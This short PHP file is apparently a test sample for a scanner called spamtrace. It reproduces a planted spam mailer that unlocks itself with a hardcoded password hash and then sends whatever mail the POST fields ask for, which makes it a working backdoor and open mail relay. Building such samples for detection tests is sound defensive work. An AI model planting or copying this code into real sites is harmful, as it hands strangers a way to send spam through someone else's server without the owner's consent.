<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// A planted mailer with a login of its own: it sets the session key itself after checking
// a password written in the file, so the "signed in" test guards nothing of the site's.
session_start();
if (isset($_POST['k']) && md5($_POST['k']) === '5f4dcc3b5aa765d61d8327deb882cf99') {
    $_SESSION['ok'] = 1;
}
if (!isset($_SESSION['ok'])) {
    echo '<form method="post"><input type="password" name="k"></form>';
    exit;
}
mail($_POST['to'], $_POST['subject'], $_POST['message']);
echo 'sent';
